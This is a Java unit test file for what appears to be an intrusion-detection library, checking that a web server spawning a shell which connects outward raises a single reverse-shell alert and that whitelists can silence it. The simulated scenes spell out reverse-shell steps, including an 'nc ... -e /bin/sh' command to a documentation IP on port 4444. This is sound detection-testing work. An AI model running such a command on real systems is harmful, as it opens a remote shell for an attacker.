package io.hivesec.examples.testing;

import static org.assertj.core.api.Assertions.assertThat;

import io.hivesec.Hive;
import io.hivesec.alert.Alert;
import io.hivesec.alert.AlertType;
import io.hivesec.alert.Exemption;
import io.hivesec.event.Event;
import io.hivesec.spi.Whitelist;
import io.hivesec.testkit.FailingWhitelist;
import io.hivesec.testkit.Misbehaviour;
import io.hivesec.testkit.Scene;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import org.junit.jupiter.api.Test;

/** What an analyst is told of a web server that starts a shell and connects it outwards. */
final class ReverseShellStoryTest {
    private final Scene scene = Scene.in("web-1");

    @Test
    void shellOfAWebServerThatConnectsOut_isOneAlertWithItsTarget() {
        Scene.Actor shell = scene.starts("/usr/sbin/nginx", "nginx").starts("/bin/bash", "bash", "-i");
        shell.connects(3, "203.0.113.9", 4444).duplicates(3, 0).duplicates(3, 1);

        List<Alert> shells = inspect(Hive.builder()).stream()
                .filter(alert -> alert.type() == AlertType.REVERSE_SHELL)
                .toList();
        assertThat(shells).hasSize(1);
        assertThat(shells.get(0).target().port()).isEqualTo(4444);
        assertThat(shells.get(0).ancestors().get(0).executable()).isEqualTo("/usr/sbin/nginx");
    }

    @Test
    void shellThatOnlyWrites_isQuiet() {
        scene.starts("/usr/sbin/nginx", "nginx")
                .starts("/bin/bash", "bash", "-c", "date")
                .writes("/tmp/date");

        assertThat(inspect(Hive.builder())).isEmpty();
    }

    @Test
    void whitelistThatTrustsIt_silencesIt_andOneThatFailsDoesNot() {
        scene.starts("/usr/bin/nc", "nc", "203.0.113.9", "4444", "-e", "/bin/sh");

        Exemption drill = new Exemption("mine", "drill", "our own drill");
        assertThat(inspect(Hive.builder().whitelist(trusting(drill)))).isEmpty();
        assertThat(inspect(Hive.builder().whitelist(new FailingWhitelist(Misbehaviour.THROW))))
                .isNotEmpty();
    }

    private static Whitelist trusting(Exemption exemption) {
        return new Whitelist() {
            @Override
            public String id() {
                return exemption.whitelist();
            }

            @Override
            public Optional<Exemption> exempts(Alert alert) {
                return Optional.of(exemption);
            }
        };
    }

    private List<Alert> inspect(Hive.Builder builder) {
        List<Alert> alerts = new ArrayList<>();
        try (Hive hive = builder.plugins(getClass().getClassLoader()).build()) {
            for (Event event : scene.events()) {
                alerts.addAll(hive.inspect(event).alerts());
            }
        }
        return alerts;
    }
}
